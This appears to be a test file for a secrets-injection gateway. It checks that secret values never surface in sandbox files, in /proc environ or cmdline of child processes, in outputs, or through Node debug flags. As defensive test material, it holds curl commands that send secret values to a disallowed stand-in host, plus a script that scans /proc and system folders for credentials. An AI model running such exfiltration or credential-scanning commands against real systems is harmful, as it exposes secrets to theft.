/** Values stay put: looked for in every place that a run shows to the sandbox, to other processes and to its reader. */
import { mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { Stage } from './stage.js';

const NAME = 'api.example.test';
const OTHER = 'other.example.test';
const VALUES = {
  FROM_ENV: 'hygiene-environment-value-8c1f0a',
  FROM_FILE: 'hygiene-file-value-52be97d3',
  LITERAL: 'hygiene-literal-value-e07ab641',
};
/** Is in a file of the sandbox: a search that does not find it is none. */
const CONTROL = 'hygiene-control-needle-77d0';
const needles = Object.values(VALUES).flatMap(value => [
  value,
  Buffer.from(value).toString('base64').slice(0, -4),
]);
const stage = new Stage();
const heard: string[] = [];

beforeAll(async () => {
  for (const name of [NAME, OTHER]) {
    await stage.https(name, (request, response) => {
      heard.push(String(request.headers['x-key']));
      response.setHeader('X-Echo', String(request.headers['x-key'])).end(`${request.headers['x-key']}\n`);
    });
  }
});
afterAll(() => stage.close());

/** Reads needles from its input, tells where it finds one, and stays until its input ends. */
const SEARCH = `
import { lstatSync, readdirSync, readFileSync } from 'node:fs';
import { createInterface } from 'node:readline';
const attempt = (read, otherwise) => { try { return read(); } catch { return otherwise; } };
const found = [];
let seen = 0;
const look = (path, needles) => {
  const bytes = attempt(() => readFileSync(path), null);
  if (bytes === null) return;
  seen += 1;
  for (const needle of needles) if (bytes.includes(needle)) found.push(path);
};
const walk = (path, needles) => {
  const stat = attempt(() => lstatSync(path), null);
  if (stat?.isFile() && stat.size < 1 << 20) look(path, needles);
  if (stat?.isDirectory()) for (const name of attempt(() => readdirSync(path), [])) walk(path + '/' + name, needles);
};
for await (const line of createInterface({ input: process.stdin })) {
  const needles = JSON.parse(line);
  for (const pid of readdirSync('/proc').filter(name => /^[0-9]+$/.test(name))) {
    for (const file of ['environ', 'cmdline']) look('/proc/' + pid + '/' + file, needles);
  }
  for (const folder of ['/tmp', '/run', '/etc', process.env.HOME, process.cwd()]) walk(folder, needles);
  console.log(JSON.stringify({ found, seen }));
}
`;

const textOf = (path: string): string => {
  try {
    return readFileSync(path, 'latin1');
  } catch {
    return ''; // The process has ended, or is another user's.
  }
};

/** Every process that descends from `pid`. */
function descendants(pid: number): number[] {
  const parents = readdirSync('/proc')
    .filter(name => /^\d+$/.test(name))
    .map(
      name => [Number(name), Number(/^PPid:\s*(\d+)/m.exec(textOf(`/proc/${name}/status`))?.[1])] as const,
    );
  const below = (parent: number): number[] =>
    parents.flatMap(([child, of]) => (of === parent ? [child, ...below(child)] : []));
  return below(pid);
}

function filesUnder(folder: string): string[] {
  const paths = readdirSync(folder).map(name => join(folder, name));
  return paths.flatMap(path => {
    if (statSync(path).isDirectory()) return filesUnder(path);
    return statSync(path).isFile() ? [path] : [];
  });
}

const holds = (text: string): readonly string[] => needles.filter(needle => text.includes(needle));

test('no value is in the sandbox, in a child of the gateway, in an output or in what a run leaves', async () => {
  const { place } = stage;
  const tmp = join(place.dir, 'tmp');
  mkdirSync(tmp);
  mkdirSync(join(place.dir, 'work'));
  const source = place.file('value', `${VALUES.FROM_FILE}\n`);
  place.file('work/search.mjs', SEARCH);
  place.file('work/control', CONTROL);
  const policy = place.file(
    'policy.yaml',
    `secrets:\n  FROM_ENV: { hosts: [${NAME}] }\n  FROM_FILE: { hosts: [${NAME}], value_from: { file: ${source} } }\n`,
  );
  const log = join(place.dir, 'events.jsonl');
  const names = Object.keys(VALUES);
  const uses = names.map(name => `curl -sSi -H "X-Key: $${name}" https://${NAME}/ </dev/null`);
  const leaks = names.map(name => `curl -sS -H "X-Key: $${name}" https://${OTHER}/ </dev/null`);
  const script = [...uses, ...leaks, 'exec node search.mjs'].join('\n');
  const flags = ['--policy', policy, '--secret', `LITERAL=${VALUES.LITERAL}@${NAME}`, '--event-log', log];
  const child = place.start(
    ['run', ...stage.flags, ...flags, '--workdir', join(place.dir, 'work'), '--', 'sh', '-c', script],
    { env: { TMPDIR: tmp, FROM_ENV: VALUES.FROM_ENV } },
  );
  let stdout = '';
  let stderr = '';
  child.stderr.on('data', chunk => {
    stderr += chunk;
  });
  const told = new Promise<void>(resolve => {
    child.stdout.on('data', chunk => {
      stdout += chunk;
      if (stdout.includes('"found"')) resolve();
    });
  });
  const closed = new Promise<number | null>(resolve => child.once('close', resolve));
  child.stdin.write(`${JSON.stringify([CONTROL, ...needles])}\n`);
  await Promise.race([told, closed]);
  const children = descendants(child.pid ?? -1);
  const exposed = children.flatMap(pid =>
    ['environ', 'cmdline'].filter(file => holds(textOf(`/proc/${pid}/${file}`)).length > 0),
  );
  const ownArguments = textOf(`/proc/${child.pid}/cmdline`);
  child.stdin.end();
  const code = await closed;

  expect({ code, stderr }).toMatchObject({ code: 0 });
  expect(heard).toEqual(Object.values(VALUES));
  const report = JSON.parse(stdout.slice(stdout.lastIndexOf('{"found"'))) as {
    found: string[];
    seen: number;
  };
  expect(new Set(report.found)).toEqual(new Set([join(place.dir, 'work', 'control')]));
  expect(report.seen).toBeGreaterThan(10);
  expect(children.length).toBeGreaterThan(0);
  expect(exposed).toEqual([]);
  // What the help warns of: a literal is an argument of the gateway itself. Nothing else is.
  expect(holds(ownArguments)).toEqual([VALUES.LITERAL]);
  const outputs = { stdout, stderr, events: readFileSync(log, 'utf8') };
  for (const [name, text] of Object.entries(outputs))
    expect({ name, held: holds(text) }).toEqual({ name, held: [] });
  expect(outputs.events.match(/"secret\.leak"/g)).toHaveLength(3);
  const left = filesUnder(place.dir).filter(path => path !== source && holds(textOf(path)).length > 0);
  expect(left).toEqual([]);
  expect(readdirSync(tmp)).toEqual([]);
});

test('no signal opens the inspector of a gateway that holds values', async () => {
  const child = stage.start(`trap 'echo signalled; exit 3' USR1; echo ready; while :; do sleep 0.1; done`);
  let text = '';
  const closed = new Promise<number | null>(resolve => child.once('close', resolve));
  child.stderr.on('data', chunk => {
    text += chunk;
  });
  child.stdout.on('data', chunk => {
    text += chunk;
    if (String(chunk).includes('ready')) child.kill('SIGUSR1');
  });
  expect(await closed).toBe(3);
  expect(text).toBe('ready\nsignalled\n');
});

test.each([
  '--inspect=127.0.0.1:0',
  '--heapsnapshot-signal=SIGUSR2',
  '--heap-prof',
  '--report-on-fatalerror',
  '--report-uncaught-exception',
  '--report_on_signal',
])('a gateway does not start under NODE_OPTIONS=%s', async flag => {
  const { code, stderr } = await stage.run(['true'], { events: false, env: { NODE_OPTIONS: flag } });
  expect(code).not.toBe(0);
  expect(stderr).toMatch(/opens the memory of the gateway|not allowed in NODE_OPTIONS/);
});
